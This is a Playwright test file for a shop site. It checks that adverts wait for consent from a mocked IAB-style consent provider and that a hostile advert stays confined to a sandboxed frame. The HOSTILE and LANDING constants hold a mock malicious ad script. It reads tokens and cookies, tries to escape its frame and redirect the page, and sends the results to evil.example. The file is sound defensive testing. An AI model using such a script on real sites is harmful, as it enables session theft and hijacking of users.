import type { BrowserContext, Page } from '@playwright/test'
import { acceptCookies } from './testing/cookies.ts'
import { expect, test } from './testing/shop.ts'

const TOKEN = 'the-token-of-a-customer'

const HOSTILE = `(() => {
  const report = (what) => {
    document.body?.append('[' + what + ']')
    fetch('https://evil.example/?' + encodeURIComponent(what)).catch(() => undefined)
  }
  const where = top === self ? 'top' : 'frame'
  const attempt = (name, act) => {
    try { report(where + ' ' + name + ' ' + act()) } catch (error) { report(where + ' ' + name + ' refused') }
  }
  attempt('origin', () => self.origin)
  attempt('storage', () => localStorage.getItem('token'))
  attempt('cookie', () => document.cookie)
  attempt('database', () => String(indexedDB.open('x')).slice(0, 0) + 'asked')
  attempt('parent', () => parent === self ? 'none' : parent.document.title)
  attempt('opener', () => opener === null ? 'none' : opener.document.title)
  if (where === 'frame') {
    attempt('top navigation', () => { top.location.href = 'https://evil.example/gone' })
    addEventListener('click', () => {
      attempt('popup of itself', () => Boolean(open(location.href)))
      attempt('blank popup', () => {
        const blank = open('about:blank')
        blank.document.write('<script>try{opener.postMessage("blank "+localStorage.getItem("token"),"*")}catch{opener.postMessage("blank refused","*")}<\\/script>')
      })
      attempt('popup of the shop', () => {
        const shop = open('/login')
        setTimeout(() => attempt('shop in a popup', () => shop.localStorage.getItem('token')), 1500)
      })
      attempt('popup of the advertiser', () => Boolean(open('https://evil.example/landing')))
      attempt('top navigation by click', () => { top.location.href = 'https://evil.example/gone' })
    })
    addEventListener('message', ({ data }) => report('message ' + data))
  }
  window.adsbygoogle = { push() {} }
})()`

const LANDING = `<script>
for (const target of ['opener', 'opener.top', 'opener.parent'])
  try { new Function('return ' + target)().location = 'https://evil.example/gone' } catch {}
</script>evil`

async function playHostile(context: BrowserContext): Promise<string[]> {
  const told: string[] = []
  await context.route('https://pagead2.googlesyndication.com/**', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
      body: HOSTILE,
    }),
  )
  await context.route('https://evil.example/**', (route) => {
    told.push(decodeURIComponent(new URL(route.request().url()).search.slice(1)))
    return route.fulfill({
      headers: { 'access-control-allow-origin': '*' },
      contentType: 'text/html',
      body: LANDING,
    })
  })
  return told
}

async function signedIn(page: Page, url: string): Promise<void> {
  await page.goto(`${url}/robots.txt`)
  await page.evaluate((token) => localStorage.setItem('token', token), TOKEN)
  await page.evaluate(acceptCookies, 0)
}

/** A consent provider with the interface of the IAB's framework. */
const PROVIDER = `(() => {
  const listeners = new Map()
  let state = { eventStatus: 'cmpuishown', gdprApplies: true }
  window.__tcfapi = (command, version, callback, id) => {
    if (command === 'removeEventListener') return listeners.delete(id)
    const listenerId = listeners.size + 1
    listeners.set(listenerId, callback)
    callback({ ...state, listenerId }, true)
  }
  window.answer = (isGranted) => {
    state = {
      eventStatus: 'useractioncomplete',
      gdprApplies: true,
      tcString: 'CPstring',
      purpose: { consents: { 1: isGranted } },
      vendor: { consents: { 755: isGranted } },
    }
    for (const [listenerId, callback] of listeners) callback({ ...state, listenerId }, true)
  }
})()`

test.describe('with a certified consent provider', () => {
  test.use({
    viewport: { width: 1680, height: 900 },
    settings: {
      ADSENSE_CLIENT: 'ca-pub-1234567890',
      CONSENT_PROVIDER_URL: 'https://consent.example/v2/tcf.js',
    },
  })

  test('requests no advert before consent allows it', async ({ page, context, ownShop: shop }) => {
    const requests: string[] = []
    await context.route('https://consent.example/**', (route) => {
      requests.push(route.request().url())
      return route.fulfill({ contentType: 'text/javascript', body: PROVIDER })
    })
    await context.route('https://pagead2.googlesyndication.com/**', (route) => route.abort())
    await page.goto(`${shop.url}/guide-achat`)
    const answer = (isGranted: boolean) =>
      page.evaluate((given) => (window as never as { answer(it: boolean): void }).answer(given), isGranted)
    const adverts = page.locator('iframe[src*="/ads/slot"]')
    await expect(page.getByRole('button', { name: 'Accepter' })).toBeVisible()
    expect(requests).toEqual([])
    await page.setViewportSize({ width: 1200, height: 900 })
    await page.getByRole('button', { name: 'Accepter' }).click()
    await expect(page.getByRole('button', { name: 'Accepter' })).toHaveCount(0)
    await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)))
    expect(requests).toEqual([])
    await page.setViewportSize({ width: 1680, height: 900 })
    await expect.poll(() => page.evaluate(() => 'answer' in window)).toBe(true)
    expect(requests).toHaveLength(1)
    await expect(adverts).toHaveCount(0)
    await answer(true)
    await expect(adverts).toHaveCount(2)
    await answer(false)
    await expect(adverts).toHaveCount(0)
    for (const file of ['adverts', 'consent-provider']) {
      const other = await context.newPage()
      const failures: string[] = []
      other.on('pageerror', ({ message }) => failures.push(message))
      await other.route(`**/assets/${file}-*.js`, (route) => route.abort())
      const refused = other.waitForEvent('requestfailed', (request) =>
        request.url().includes(`/assets/${file}-`),
      )
      await other.goto(`${shop.url}/guide-achat`)
      await refused
      await other.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)))
      await expect(other.getByRole('heading', { level: 1 })).toHaveText('Guide d’achat')
      const isReloaded = await other.evaluate(
        () => performance.getEntriesByType('navigation')[0]?.toJSON().type === 'reload',
      )
      expect([isReloaded, failures], file).toEqual([false, []])
      await other.close()
    }
  })
})

test.describe('a hostile advert', () => {
  test.use({ viewport: { width: 1680, height: 900 }, settings: { ADSENSE_CLIENT: 'ca-pub-1234567890' } })

  test('cannot leave its frame, read the shop’s storage or run anywhere else @rare', async ({
    page,
    context,
    ownShop: shop,
  }) => {
    const told = await playHostile(context)
    await signedIn(page, shop.url)
    await page.goto(`${shop.url}/guide-achat`)
    await expect.poll(() => told).toContain('frame origin null')
    await page.frameLocator('iframe').first().locator('body').click()
    await expect.poll(() => told).toContain('frame popup of itself true')
    await expect.poll(() => told).toContain('frame shop in a popup refused')
    const popups = context.pages().filter((other) => other !== page)
    for (const popup of popups) await popup.waitForLoadState()

    expect(page.url()).toBe(`${shop.url}/guide-achat`)
    for (const attempt of ['storage', 'cookie', 'database', 'parent', 'top navigation'])
      expect(told).toContain(`frame ${attempt} refused`)
    expect(told.filter((line) => line.startsWith('top '))).toEqual([])
    expect(told.join()).not.toContain(TOKEN)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    for (const popup of popups) expect(await popup.locator('body').innerText()).not.toContain('[')

    const answer = await page.goto(`${shop.url}/ads/slot?place=left`)
    await page.waitForLoadState('networkidle')
    expect(answer?.headers()['content-security-policy']).toMatch(/(^|; )sandbox(;|$)/)
    await expect(page.locator('script')).toHaveCount(0)
    expect(told.filter((line) => line.startsWith('top '))).toEqual([])
  })
})
